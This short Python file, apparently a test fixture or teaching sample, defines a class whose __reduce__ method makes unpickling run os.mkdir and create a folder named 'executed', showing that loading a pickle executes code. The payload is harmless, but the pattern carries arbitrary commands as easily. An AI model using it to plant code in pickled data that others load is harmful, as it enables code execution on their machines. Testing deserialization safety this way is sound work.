"""What runs code when it is unpickled: it makes the folder "executed"."""

import os


class Hostile:
    def __reduce__(self):
        return os.mkdir, ("executed",)
